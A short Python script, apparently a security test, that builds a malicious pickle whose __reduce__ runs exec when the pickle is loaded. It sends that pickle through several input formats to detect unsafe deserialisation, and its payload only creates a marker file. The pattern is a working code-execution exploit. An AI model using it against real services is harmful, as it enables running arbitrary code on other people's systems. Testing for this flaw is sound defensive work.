"""Send pickles that run a program when they are loaded, in every place that takes bytes."""

import pickle

from tools import answer_with


class Evil:
    def __reduce__(self):
        return exec, ("open('__MARK__', 'w').close()",)


data = pickle.dumps(Evil())
answer_with(
    {"value": ["p", 0, len(data)]},
    {"value": ["P", 0, len(data)], "pickle": data.decode("latin-1")},
    {"value": ["A", "|O", [1], 0, len(data)]},
    {"value": ["T", "object", [1], 0, len(data)]},
    {"value": ["b", 0, len(data)]},
    blob=data,
)
